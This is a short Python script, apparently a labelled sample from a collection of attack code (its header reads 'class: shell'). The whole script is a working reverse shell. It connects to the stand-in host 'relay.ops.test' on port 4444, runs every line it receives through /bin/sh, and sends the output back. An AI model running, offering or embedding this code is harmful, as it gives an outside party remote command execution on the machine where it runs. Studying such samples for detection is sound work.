# class: shell; possible: low medium; style: one process per command, tidy
import socket
import subprocess


def main():
    with socket.create_connection(("relay.ops.test", 4444)) as s:
        lines = s.makefile("r")
        for line in lines:
            line = line.rstrip()
            if line == "exit":
                break
            done = subprocess.run(["/bin/sh", "-c", line], capture_output=True, timeout=10)
            s.sendall(done.stdout + done.stderr + b"# ")


main()
